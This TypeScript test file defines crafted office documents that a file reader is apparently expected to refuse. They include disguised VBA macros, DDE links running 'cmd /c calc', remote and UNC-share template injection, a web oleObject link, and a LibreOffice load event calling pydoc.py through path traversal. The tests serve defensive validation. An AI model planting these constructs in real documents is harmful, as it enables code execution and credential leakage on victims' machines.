/** What runs, or reaches out of a file: macros under other names, links to other files and machines, templates of the network. */
import { relationship } from "../workbook/xlsx-file.ts";
import type { ZipPart } from "../workbook/zip-file.ts";
import { type Attack, type AttackOutcome, refused } from "./attack.ts";
import {
  docxAttack,
  link,
  odsAttack,
  relationshipsOf,
  soundCells,
  soundOdsRow,
  soundParagraph,
  xlsxAttack,
} from "./sound-files.ts";

const types = "[Content_Types].xml";
const typesOf = (inside: string): ZipPart => ({
  name: types,
  content: `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">${inside}</Types>`,
});

const xlsx = (name: string, draw: () => Uint8Array, outcome: AttackOutcome): Attack => ({
  name,
  file: "bieu.xlsx",
  draw,
  outcome,
});
const related = (name: string, inside: string, outcome: AttackOutcome): Attack =>
  xlsx(name, () => xlsxAttack({ relationships: inside }), outcome);
const docx = (name: string, parts: readonly ZipPart[], outcome: AttackOutcome): Attack => ({
  name,
  file: "bao-cao.docx",
  draw: () => docxAttack(undefined, parts),
  outcome,
});
const ods = (name: string, draw: () => Uint8Array, outcome: AttackOutcome): Attack => ({
  name,
  file: "bieu.ods",
  draw,
  outcome,
});
const settingsRelations = (target: string): ZipPart => ({
  name: "word/_rels/settings.xml.rels",
  content: relationshipsOf(link("rId1", "attachedTemplate", target)),
});
const webTemplate = "https://example.com/mau.dotm";

/** The attacks. */
export const outsideAttacks: readonly Attack[] = [
  xlsx(
    "macros",
    () => xlsxAttack({}, [{ name: "xl/vbaProject.bin", content: "x" }]),
    refused("macroWorkbook", { part: "xl/vbaProject.bin" }),
  ),
  xlsx(
    "macros that are called pictures",
    () =>
      xlsxAttack({ relationships: relationship("rId77", "vbaProject", "media/anh.png") }, [
        { name: "xl/media/anh.png", content: "x" },
      ]),
    refused("macroWorkbook", { part: "xl/media/anh.png" }),
  ),
  xlsx(
    "macros that only the list of types tells",
    () =>
      xlsxAttack({}, [
        typesOf('<Override PartName="/xl/a.bin" ContentType="application/vnd.ms-office.vbaProject"/>'),
        { name: "xl/a.bin", content: "x" },
      ]),
    refused("macroWorkbook", { part: types }),
  ),
  xlsx(
    "a workbook for macros that is called .xlsx",
    () => xlsxAttack({}, [typesOf('<Override ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/>')]),
    refused("macroWorkbook", { part: types }),
  ),
  related(
    "a macro sheet of 1992",
    relationship("rId5", "xlMacrosheet", "macrosheets/sheet1.xml"),
    refused("macroWorkbook", { part: "xl/macrosheets/sheet1.xml" }),
  ),
  related(
    "an international macro sheet",
    relationship("rId5", "xlIntlMacrosheet", "macrosheets/sheet1.xml"),
    refused("macroWorkbook", { part: "xl/macrosheets/sheet1.xml" }),
  ),
  xlsx(
    "a control of ActiveX on a sheet",
    () =>
      xlsxAttack({}, [
        {
          name: "xl/worksheets/_rels/sheet1.xml.rels",
          content: relationshipsOf(link("rId1", "control", "../activeX/activeX1.xml")),
        },
        { name: "xl/activeX/activeX1.xml", content: "<a/>" },
      ]),
    refused("macroWorkbook", { part: "xl/activeX/activeX1.xml" }),
  ),
  xlsx(
    "an object of another program, which is passed over",
    () => xlsxAttack({}, [{ name: "xl/embeddings/oleObject1.bin", content: Buffer.from("d0cf11e0a1b11ae1", "hex") }]),
    { read: soundCells },
  ),
  related(
    "figures of another workbook",
    relationship("rId5", "externalLink", "externalLinks/externalLink1.xml"),
    refused("externalLinks", { part: "xl/externalLinks/externalLink1.xml" }),
  ),
  xlsx(
    "a call of another program (DDE) among links that are not stated",
    () =>
      xlsxAttack({}, [
        {
          name: "xl/externalLinks/externalLink1.xml",
          content: '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
        },
      ]),
    refused("externalLinks", { part: "xl/externalLinks/externalLink1.xml" }),
  ),
  xlsx(
    "a sheet that shows an object of a web site",
    () =>
      xlsxAttack({}, [
        {
          name: "xl/worksheets/_rels/sheet1.xml.rels",
          content: relationshipsOf(link("rId1", "oleObject", "https://example.com/x.html!")),
        },
      ]),
    refused("archiveEntryRefused", { part: "xl/worksheets/_rels/sheet1.xml.rels" }),
  ),
  xlsx(
    "a link that is only shown",
    () =>
      xlsxAttack({}, [
        {
          name: "xl/worksheets/_rels/sheet1.xml.rels",
          content: relationshipsOf(link("rId1", "hyperlink", "https://example.com/")),
        },
      ]),
    { read: soundCells },
  ),
  docx("macros in a document", [{ name: "word/vbaProject.bin", content: "x" }], refused("macroWorkbook")),
  docx(
    "a template on a web site",
    [settingsRelations(webTemplate)],
    refused("archiveEntryRefused", { part: "word/_rels/settings.xml.rels" }),
  ),
  docx(
    "a template in a folder that is shared",
    [settingsRelations("file://192.0.2.1/chung/mau.dotm")],
    refused("archiveEntryRefused", { part: "word/_rels/settings.xml.rels" }),
  ),
  docx(
    "a template in a folder that is shared, as Windows writes it",
    [settingsRelations("\\\\192.0.2.1\\chung\\mau.dotm")],
    refused("archiveEntryRefused", { part: "word/_rels/settings.xml.rels" }),
  ),
  docx("the template of the author's own machine", [settingsRelations("file:///C:\\Users\\an\\Mau.dotx")], {
    paragraphs: [soundParagraph],
  }),
  docx(
    "an object of a web site, as a message of 2022 carried it",
    [
      {
        name: "word/_rels/document.xml.rels",
        content: relationshipsOf(link("rId1", "oleObject", "https://example.com/x.html!")),
      },
    ],
    refused("archiveEntryRefused", { part: "word/_rels/document.xml.rels" }),
  ),
  ods(
    "macros in a spreadsheet of LibreOffice",
    () => odsAttack({}, [{ name: "Basic/Standard/Module1.xml", content: "<a/>" }]),
    refused("macroWorkbook", { part: "Basic/Standard/Module1.xml" }),
  ),
  ods(
    "scripts in a spreadsheet of LibreOffice",
    () => odsAttack({}, [{ name: "Scripts/python/x.py", content: "x" }]),
    refused("macroWorkbook", { part: "Scripts/python/x.py" }),
  ),
  ods(
    "a script of the program's own folder, called on opening",
    () =>
      odsAttack({
        before:
          '<office:event-listeners><script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:../../program/pydoc.py$tempfilepager?language=Python"/></office:event-listeners>',
      }),
    refused("macroWorkbook", { part: "content.xml" }),
  ),
  ods(
    "a sheet of another file",
    () =>
      odsAttack({ rows: `<table:table-source xlink:href="file:///C:/kh.ods" table:table-name="KH"/>${soundOdsRow}` }),
    refused("externalLinks", { part: "content.xml" }),
  ),
  ods(
    "a range of another file",
    () =>
      odsAttack({
        rows: '<table:table-row><table:table-cell><table:cell-range-source table:name="A1" xlink:href="https://example.com/kh.ods"/></table:table-cell></table:table-row>',
      }),
    refused("externalLinks", { part: "content.xml" }),
  ),
  ods(
    "a call of another program (DDE)",
    () =>
      odsAttack({
        before:
          '<table:dde-links><table:dde-link><office:dde-source office:dde-application="cmd" office:dde-topic="/c calc" office:dde-item="x"/></table:dde-link></table:dde-links>',
      }),
    refused("externalLinks", { part: "content.xml" }),
  ),
  ods(
    "an encrypted spreadsheet of LibreOffice",
    () =>
      odsAttack({}, [
        {
          name: "META-INF/manifest.xml",
          content: "<manifest:manifest><manifest:encryption-data /></manifest:manifest>",
        },
      ]),
    refused("passwordProtected"),
  ),
  ods(
    "a text of LibreOffice that is called a spreadsheet",
    () => odsAttack({}, [{ name: "mimetype", content: "application/vnd.oasis.opendocument.text", method: 0 }]),
    refused("unreadFormat"),
  ),
];
